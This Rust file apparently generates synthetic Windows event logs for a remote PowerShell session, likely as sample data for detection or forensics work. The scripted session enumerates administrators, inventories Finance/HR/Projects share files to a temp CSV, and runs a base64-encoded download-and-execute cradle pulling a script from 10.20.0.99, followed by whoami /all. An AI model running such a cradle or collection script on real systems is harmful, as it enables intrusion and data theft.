//! Session A: adm.lee enters a session from WS01 to SRV02, 21:14:07 to 21:16:42.

use evtx_writer::{EvtxGuid, FileTime};
use scenario::events::{POWERSHELL, ScenarioLogon, ScenarioProcess, dcom};

use crate::logs::{SampleLogs, at, later};
use crate::world::{ADM_LEE, ADM_LEE_AT_WS01, DC01, J_DOE, KRBTGT, SRV02, WS01, explorer};
use scenario::events::powershell::{ClientRunspacePool, ScenarioEngine, VERBOSE, WARNING};
use scenario::events::security::{self, LogonSource};
use scenario::events::sysmon;
use scenario::events::winrm::{POWERSHELL_SHELL, WsmanEndpoint, with_caller};

const POOL: EvtxGuid = EvtxGuid::from_u128(0x3f6a1c84_92d7_4be0_8a15_6c0de97b2f31);
const CLIENT_RUNSPACE: EvtxGuid = EvtxGuid::from_u128(0x8b2e57d0_14fa_4c69_b3a8_d51f0c7e9642);
const CLIENT_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0x5d20a9c3_7e11_0001_4fb8_c16eb3d3dc01);
const SERVICE_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0xa4177b62_31c5_0000_9d3e_80f1b3d3dc01);
const HOST_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0xa4177b62_31c5_0001_27aa_91f1b3d3dc01);
const TICKET: EvtxGuid = EvtxGuid::from_u128(0x71c3e8ab_5f90_d264_1be7_a03dcc98f51e);
/// A ticket does for all connections; Security makes a GUID of each at the target.
const TARGET_TICKET: EvtxGuid = EvtxGuid::from_u128(0xe6081f5c_a73d_49b2_d4c0_3897eb512a6f);

/// The session's own logon, and those of two more HTTP connections.
const OWNER: ScenarioLogon<'static> = ADM_LEE.logon(0x5f1a20);
const SECOND: ScenarioLogon<'static> = ADM_LEE.logon(0x5f1b77);
const THIRD: ScenarioLogon<'static> = ADM_LEE.logon(0x5f90c4);

const INVENTORY: [&str; 3] = [
    "function Get-ShareInventory {\r\n    param([string[]] $Root = @('D:\\Finance', 'D:\\Projects', 'D:\\HR'))\r\n    $since = (Get-Date).AddDays(-30)\r\n",
    "    foreach ($path in $Root) {\r\n        Get-ChildItem -Path $path -Recurse -File -ErrorAction SilentlyContinue |\r\n            Where-Object { $_.LastWriteTime -gt $since } |\r\n",
    "            Select-Object FullName, Length, LastWriteTime\r\n    }\r\n}\r\nGet-ShareInventory | Export-Csv -Path C:\\Windows\\Temp\\inv.csv -NoTypeInformation\r\n",
];
/// UTF-16LE in base64 of `CRADLE`, the way `-EncodedCommand` takes it.
const ENCODED: &str = "powershell.exe -NoP -NonI -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMgAwAC4AMAAuADkAOQAvAGEALgBwAHMAMQAnACkA";
const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.20.0.99/a.ps1')";

pub fn add(logs: &mut SampleLogs) {
    logon_at_the_client(logs);
    connect(logs);
    start_at_the_target(logs);
    commands(logs);
    child_process(logs);
    leave(logs);
}

fn client_process() -> ScenarioProcess {
    ScenarioProcess::new(6700, POWERSHELL, format!("\"{POWERSHELL}\" "))
}

fn client_end() -> WsmanEndpoint<'static> {
    WsmanEndpoint::client(ADM_LEE, &client_process(), CLIENT_ACTIVITY)
}

fn host_process() -> ScenarioProcess {
    ScenarioProcess::new(
        5336,
        r"C:\Windows\System32\wsmprovhost.exe",
        r"C:\Windows\system32\wsmprovhost.exe -Embedding",
    )
}

/// The engine inside wsmprovhost.exe.
fn engine() -> ScenarioEngine<'static> {
    ScenarioEngine {
        host_name: "ServerRemoteHost",
        host_version: "1.0.0.0",
        engine_version: "5.1.20348.2227",
        host_id: EvtxGuid::from_u128(0x9c41e7b5_06d3_4f28_a1bd_72e8503c6fd4),
        runspace: EvtxGuid::from_u128(0x24d9b6f1_c87e_45a3_9e02_b61f7ad4083c),
        activity: HOST_ACTIVITY,
        account: ADM_LEE,
        connected: ADM_LEE,
        process: host_process(),
    }
}

/// adm.lee at the keyboard of WS01, with a console.
fn logon_at_the_client(logs: &mut SampleLogs) {
    logs.add(
        &DC01,
        security::ticket_granting(&DC01, at(21, 5, 11, 4_402_118), ADM_LEE, KRBTGT, (&WS01, 50120)),
    );
    let seated = LogonSource::local(&WS01, 2);
    logs.add(
        &WS01,
        security::plain_logon(&WS01, at(21, 5, 11, 5_100_927), ADM_LEE_AT_WS01, seated),
    );
    logs.add(&WS01, security::privileges(&WS01, at(21, 5, 11, 5_101_064), ADM_LEE_AT_WS01));

    let console = client_process();
    let time = at(21, 13, 48, 2_210_473);
    logs.add(&WS01, security::process_created(time, ADM_LEE_AT_WS01, None, &console, &explorer()));
    logs.add(
        &WS01,
        sysmon::process_created(
            later(time, 9_114),
            "2026-03-14 21:13:48.220",
            ADM_LEE_AT_WS01,
            &console,
            &explorer(),
            "MD5=3E1C0A97B2D84F65A1907C5D2E6B8F40",
        ),
    );
    let shell = ScenarioEngine::console(
        console,
        ADM_LEE,
        "5.1.19041.1682",
        [
            EvtxGuid::from_u128(0x61fd30c8_b2a7_4e95_8c46_0d97e31fa5b2),
            EvtxGuid::from_u128(0xd8075e94_3c1b_47f6_a2e9_5b640fc8d137),
            CLIENT_ACTIVITY,
        ],
    );
    for event in shell.console_started(at(21, 13, 48, 4_100_288), at(21, 13, 48, 8_703_514)) {
        logs.add(&WS01, event);
    }
    logs.add(&WS01, shell.listening(at(21, 13, 48, 4_908_733)));
    logs.add(&WS01, shell.available(at(21, 13, 48, 6_000_000), 13));
    let block = EvtxGuid::from_u128(0x0e9b7ac5_f168_4d32_b7d4_18c2905ea36f);
    let line = "Enter-PSSession -ComputerName SRV02.corp.example";
    for event in shell.script(at(21, 14, 6, 9_804_416), VERBOSE, block, &[line]) {
        logs.add(&WS01, event);
    }
}

/// The client's side of the connection, and what the domain controller sees of it.
fn connect(logs: &mut SampleLogs) {
    let pool = ClientRunspacePool {
        process_id: 6700,
        account: ADM_LEE,
        runspace: CLIENT_RUNSPACE,
        pool: POOL,
    };
    for event in pool.opening(at(21, 14, 7, 312_345)) {
        logs.add(&WS01, event);
    }
    let end = client_end();
    let target = "SRV02.corp.example/wsman?PSVersion=5.1.19041.1682";
    for event in [
        end.session(at(21, 14, 7, 410_112), target),
        end.option(at(21, 14, 7, 412_870), 25, "WSMAN_OPTION_LOCALE", "en-US"),
        end.option(at(21, 14, 7, 413_001), 12, "WSMAN_OPTION_TIMEOUTMS_CREATE_SHELL", "180000"),
        end.session_created(at(21, 14, 7, 414_655)),
        end.shell(at(21, 14, 7, 420_031), POWERSHELL_SHELL, POOL),
        end.operation(at(21, 14, 7, 421_777), "CreateShell", POWERSHELL_SHELL),
        end.operation_done(at(21, 14, 7, 5_588_140), "CreateShell"),
    ] {
        logs.add(&WS01, event);
    }
    logs.add(&WS01, pool.correlated(at(21, 14, 7, 5_590_002)));
    logs.add(&WS01, pool.state(at(21, 14, 7, 7_813_356), "Opened"));

    let ticket_time = at(21, 14, 7, 712_201);
    logs.add(
        &DC01,
        security::service_ticket(&DC01, ticket_time, ADM_LEE, &SRV02, (&WS01, 50210), TICKET),
    );
    let console = client_process();
    logs.add(
        &WS01,
        security::explicit_credentials(
            &WS01,
            at(21, 14, 7, 720_445),
            (ADM_LEE_AT_WS01, ADM_LEE),
            "SRV02.corp.example",
            &console,
            TICKET,
        ),
    );
    connection(logs, at(21, 14, 7, 760_318), 50211, "2026-03-14 21:14:07.071");
    connection(logs, at(21, 14, 7, 2_904_107), 50212, "2026-03-14 21:14:07.288");
    connection(logs, at(21, 15, 41, 1_076_930), 50240, "2026-03-14 21:15:41.105");
}

/// One HTTP connection, at both ends.
fn connection(logs: &mut SampleLogs, time: FileTime, port: u16, utc: &str) {
    let (from, to) = ((&WS01, port), (&SRV02, 5985));
    let console = client_process();
    logs.add(&WS01, security::connection_out(time, &console, from, to));
    logs.add(
        &WS01,
        sysmon::connection(later(time, 12_000_000), utc, ADM_LEE_AT_WS01, &console, from, to),
    );
    logs.add(&SRV02, security::connection_in(later(time, 7_116), from, to));
}

fn logon(logs: &mut SampleLogs, time: FileTime, session: ScenarioLogon<'_>) {
    logs.add(&SRV02, security::privileges(&SRV02, time, session));
    let source = LogonSource::kerberos();
    logs.add(&SRV02, security::logon(&SRV02, later(time, 118), session, source, TARGET_TICKET));
}

/// The shell, its process and its engine.
fn start_at_the_target(logs: &mut SampleLogs) {
    logon(logs, at(21, 14, 7, 1_180_436), OWNER);
    let service = WsmanEndpoint::service(&SRV02, ADM_LEE, SERVICE_ACTIVITY);
    logs.add(
        &SRV02,
        service.shell_created(
            at(21, 14, 7, 2_010_880),
            &with_caller(POWERSHELL_SHELL, ADM_LEE, WS01.ip),
        ),
    );
    logs.add(
        &SRV02,
        security::process_created(
            at(21, 14, 7, 2_310_019),
            SRV02.system(),
            Some(OWNER),
            &host_process(),
            &dcom(&SRV02),
        ),
    );
    logon(logs, at(21, 14, 7, 3_021_069), SECOND);

    let engine = engine();
    logs.add(&SRV02, engine.listening(at(21, 14, 7, 4_410_072)));
    let providers = ["Registry", "Alias", "Environment", "FileSystem", "Function", "Variable"];
    for (i, provider) in (0..).zip(providers) {
        let time = at(21, 14, 7, 4_600_000 + 11_307 * i);
        logs.add(&SRV02, engine.provider(time, provider, 1 + 2 * i, true));
    }
    logs.add(&SRV02, engine.available(at(21, 14, 7, 5_100_664), 13));
    logs.add(&SRV02, engine.provider(at(21, 14, 7, 5_233_190), "WSMan", 15, false));
}

/// The lines typed into the session.
fn commands(logs: &mut SampleLogs) {
    let engine = engine();
    let client = client_end();
    let mut typed = |time: FileTime, block: u128, parts: &[&str], command_id: u128| {
        let guid = EvtxGuid::from_u128(command_id);
        logs.add(&WS01, client.command(FileTime(time.0 - 201_337), guid));
        for event in engine.script(time, VERBOSE, EvtxGuid::from_u128(block), parts) {
            logs.add(&SRV02, event);
        }
    };
    typed(
        at(21, 14, 21, 3_300_512),
        0x47c8e0d2_9a61_4b3f_8f17_c30d5be2a986,
        &["Get-LocalGroupMember -Group Administrators"],
        0x1d7f53a8_6b09_4ec2_a4d1_0f82c697be35,
    );
    typed(
        at(21, 15, 2, 5_107_226),
        0xb95d2f17_4e80_46ca_93bb_e8017f64d52c,
        &INVENTORY,
        0x920ce4b6_d35a_4817_b8f0_27a16ed9c543,
    );
    typed(
        at(21, 15, 31, 3_140_091),
        0x6a03d9fe_18b7_4c52_a6ed_5f7294c10b8e,
        &[ENCODED],
        0xc5e61870_f2b4_49ad_8c39_d4b05a7f2e16,
    );
    typed(
        at(21, 16, 10, 6_009_385),
        0xf1728c5b_a0d4_4e97_b25c_936ae04d7f18,
        &["Get-Service -Name WinRM"],
        0x38b9f7d1_05ce_4a62_97e4_6c21d80fb3a5,
    );

    for (time, pipeline, sequence, name, parameters) in [
        (
            at(21, 14, 21, 3_710_200),
            2,
            17,
            "Get-LocalGroupMember",
            &[("Group", "Administrators")][..],
        ),
        (
            at(21, 15, 2, 6_018_775),
            5,
            23,
            "Export-Csv",
            &[("NoTypeInformation", "True"), ("Path", r"C:\Windows\Temp\inv.csv")],
        ),
        (at(21, 16, 10, 6_240_441), 11, 35, "Get-Service", &[("Name", "WinRM")]),
    ] {
        logs.add(&SRV02, engine.command(time, (pipeline, sequence), name, parameters));
        let classic = (pipeline, sequence - 1);
        logs.add(&SRV02, engine.pipeline(later(time, 20_500), classic, " ", name, parameters));
    }
}

/// The process that the encoded command started, and that process's children.
fn child_process(logs: &mut SampleLogs) {
    let host = host_process();
    let child = ScenarioProcess::new(
        7948,
        POWERSHELL,
        ENCODED.replacen("powershell.exe", &format!("\"{POWERSHELL}\""), 1),
    );
    let conhost = ScenarioProcess::new(
        7960,
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    );
    let whoami = ScenarioProcess::new(
        8104,
        r"C:\Windows\System32\whoami.exe",
        "\"C:\\Windows\\system32\\whoami.exe\" /all",
    );
    for (time, new, parent) in [
        (at(21, 15, 31, 4_120_667), &child, &host),
        (at(21, 15, 31, 4_233_018), &conhost, &child),
        (at(21, 15, 33, 209_545), &whoami, &child),
    ] {
        logs.add(&SRV02, security::process_created(time, OWNER, None, new, parent));
    }
    for (time, process) in [
        (at(21, 15, 33, 1_580_002), &whoami),
        (at(21, 15, 33, 4_011_723), &child),
        (at(21, 15, 33, 4_090_310), &conhost),
    ] {
        logs.add(&SRV02, security::process_exited(time, OWNER, process));
    }

    let engine = ScenarioEngine::console(
        child,
        ADM_LEE,
        "5.1.20348.2227",
        [
            EvtxGuid::from_u128(0x7de402b9_51fc_4038_9b6a_ec85d7130f42),
            EvtxGuid::from_u128(0x50b8fa3d_e726_4d91_8ac3_197c06be54f8),
            EvtxGuid::from_u128(0xa4177b62_31c5_0002_88f0_a5f1b3d3dc01),
        ],
    );
    for event in engine.console_started(at(21, 15, 31, 7_204_911), at(21, 15, 31, 9_903_262)) {
        logs.add(&SRV02, event);
    }
    logs.add(&SRV02, engine.listening(at(21, 15, 31, 8_110_034)));
    logs.add(&SRV02, engine.available(at(21, 15, 31, 8_620_557), 13));
    let block = EvtxGuid::from_u128(0x83fd16a0_c94e_4275_b0d8_2ae7915c6f3b);
    for event in engine.script(at(21, 15, 32, 1_306_488), WARNING, block, &[CRADLE]) {
        logs.add(&SRV02, event);
    }
    logs.add(&SRV02, engine.stopped(at(21, 15, 33, 3_560_129), 15));
}

/// The end of the session, and logons of others that fall into it.
fn leave(logs: &mut SampleLogs) {
    logs.add(&SRV02, security::logoff(&SRV02, at(21, 15, 40, 7_702_116), SECOND, 3));
    logon(logs, at(21, 15, 41, 1_214_380), THIRD);

    let end = client_end();
    let mut closing = vec![
        end.closing(at(21, 16, 41, 8_004_120), 15),
        end.closing(at(21, 16, 41, 9_310_664), 16),
        end.operation_done(at(21, 16, 42, 402_909), "DeleteShell"),
    ];
    closing.extend(end.session_closed(at(21, 16, 42, 500_187), at(21, 16, 42, 623_451)));
    for event in closing {
        logs.add(&WS01, event);
    }
    let pool = ClientRunspacePool {
        process_id: 6700,
        account: ADM_LEE,
        runspace: CLIENT_RUNSPACE,
        pool: POOL,
    };
    logs.add(&WS01, pool.state(at(21, 16, 42, 480_233), "Closed"));

    logs.add(&SRV02, engine().stopped(at(21, 16, 42, 318_876), 39));
    logs.add(&SRV02, security::process_exited(at(21, 16, 42, 705_120), OWNER, &host_process()));
    logs.add(&SRV02, security::logoff(&SRV02, at(21, 16, 42, 1_130_448), THIRD, 3));
    logs.add(&SRV02, security::logoff(&SRV02, at(21, 16, 42, 1_131_907), OWNER, 3));

    // j.doe has files open on SRV02 meanwhile.
    for (minute, second, id, port) in [(14, 30, 0x5f3d01, 50219), (16, 1, 0x5f9ab3, 50246)] {
        let session = J_DOE.logon(id);
        let time = at(21, minute, second, 2_400_711);
        let source = LogonSource::kerberos_from(WS01.ip, port);
        logs.add(&SRV02, security::plain_logon(&SRV02, time, session, source));
        logs.add(&SRV02, security::logoff(&SRV02, later(time, 110_000_000), session, 3));
    }
}
